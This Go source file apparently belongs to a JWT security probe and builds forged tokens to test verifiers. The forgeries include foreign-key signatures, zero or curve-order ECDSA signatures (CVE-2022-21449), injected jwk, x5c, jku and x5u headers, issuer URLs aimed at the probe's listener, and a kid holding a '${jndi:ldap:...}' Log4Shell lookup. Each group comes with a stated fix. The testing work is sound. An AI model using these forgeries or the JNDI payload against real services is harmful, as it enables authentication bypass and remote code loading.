package forge

import (
	"encoding/base64"
	"math/big"

	"m2m/internal/jsonobject"
)

const (
	fixForeign = "verify with the issuer's own keys alone, chosen by the exact kid from its key set; reject a kid that is not in it"
	fixNamed   = "never take a key, or the address of one, from the token: ignore or reject jwk, jku, x5c and x5u, and compare " +
		"iss with a configured value before anything is fetched; RFC 8725 section 3.10"
)

// FixFetch is the fix of an API that fetches what a token names.
const FixFetch = "fetch keys from the configured issuer alone: " + fixNamed

// foreignKeyCases are signed, but not with a key of the issuer.
func foreignKeyCases() []Case {
	signed := func(alg string, change edit, sign signFunc) func(*Kit) (string, error) {
		return editedHeader(func(o jsonobject.Object) jsonobject.Object { return change(o.With("alg", jsonobject.Quote(alg))) }, sign)
	}
	same := func(o jsonobject.Object) jsonobject.Object { return o }
	otherKID := func(o jsonobject.Object) jsonobject.Object { return o.With("kid", jsonobject.Quote(ownKID)) }
	noKID := func(o jsonobject.Object) jsonobject.Object { return o.Without("kid", "x5t", "x5t#S256") }
	order := encode256(orderP256())
	return tokenCases(ForeignKey, AnybodyIn, fixForeign,
		forgery{"foreign-key", "RS256 with a key of the probe and the issuer's kid", signed("RS256", same, signRS256)},
		forgery{"foreign-key-unknown-kid", "RS256 with a key of the probe and an unknown kid", signed("RS256", otherKID, signRS256)},
		forgery{"foreign-key-no-kid", "RS256 with a key of the probe and no kid", signed("RS256", noKID, signRS256)},
		forgery{"foreign-key-ps256", "PS256 with a key of the probe and the issuer's kid", signed("PS256", same, signPS256)},
		forgery{"foreign-key-es256", "ES256 with a key of the probe and the issuer's kid", signed("ES256", same, signES256)},
		forgery{"es256-zero", "ES256 with r = s = 0 (CVE-2022-21449)", signed("ES256", same, fixedSignature(make([]byte, 64)))},
		forgery{"es256-order", "ES256 with r = s = the order of the curve", signed("ES256", same, fixedSignature(append(order, order...)))},
		forgery{"es384-zero", "ES384 with r = s = 0", signed("ES384", same, fixedSignature(make([]byte, 96)))},
		forgery{"eddsa-zero", "EdDSA with a signature of zeros", signed("EdDSA", same, fixedSignature(make([]byte, 64)))},
	)
}

// orderP256 is n of P-256 (FIPS 186-5, SP 800-186 section 3.2.1.3).
func orderP256() *big.Int {
	n, _ := new(big.Int).SetString("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)
	return n
}

func encode256(n *big.Int) []byte { return n.FillBytes(make([]byte, 32)) }

// namedKeyCases carry the key, or the address of one. The address is that of our
// listener, so that a fetch is seen.
func namedKeyCases() []Case {
	header := func(change func(k *Kit, o jsonobject.Object) jsonobject.Object) func(*Kit) (string, error) {
		return func(k *Kit) (string, error) {
			return k.compose(change(k, k.header.With("alg", `"RS256"`)).String(), k.payload, signRS256)
		}
	}
	address := func(name, member, tail, scheme string) func(*Kit) (string, error) {
		return header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
			return o.With("kid", jsonobject.Quote(ownKID)).With(member, jsonobject.Quote(k.callback.urlFor(scheme, name)+tail))
		})
	}
	issuer := func(name, scheme string) func(*Kit) (string, error) {
		return func(k *Kit) (string, error) {
			header := k.header.With("alg", `"RS256"`).With("kid", jsonobject.Quote(ownKID)).String()
			claims := k.claims.With("iss", jsonobject.Quote(k.callback.urlFor(scheme, name))).String()
			return k.compose(header, []byte(claims), signRS256)
		}
	}
	return tokenCases(NamedKey, AnybodyIn, fixNamed,
		forgery{"jwk", "our key in jwk", header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
			return o.With("jwk", k.ownJWK(ownKID)).With("kid", jsonobject.Quote(ownKID))
		})},
		forgery{"jwk-same-kid", "our key in jwk, with the issuer's kid", header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
			return o.With("jwk", k.ownJWK(o.Text("kid")))
		})},
		forgery{"x5c", "our own certificate in x5c", header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
			return o.With("x5c", list(base64.StdEncoding.EncodeToString(k.certificate)))
		})},
		forgery{"jku", "jku names our listener, where our key set is", address("jku", "jku", "/keys", "http")},
		forgery{"jku-https", "jku names our listener with https", address("jku-https", "jku", "/keys", "https")},
		forgery{"x5u", "x5u names our listener, where our certificate is", address("x5u", "x5u", "/certificate.pem", "http")},
		forgery{"x5u-https", "x5u names our listener with https", address("x5u-https", "x5u", "/certificate.pem", "https")},
		forgery{"kid-url", "the kid is the address of our listener", address("kid-url", "kid", "/keys", "http")},
		forgery{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)",
			header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
				return o.With("kid", jsonobject.Quote("${jndi:"+k.callback.urlFor("ldap", "kid-jndi")+"}"))
			})},
		forgery{"iss-url", "iss names our listener, which has discovery and keys", issuer("iss-url", "http")},
		forgery{"iss-url-https", "iss names our listener with https", issuer("iss-url-https", "https")},
	)
}

// ownKID is the key ID of our own key where it does not take the issuer's.
const ownKID = "m2m-probe"
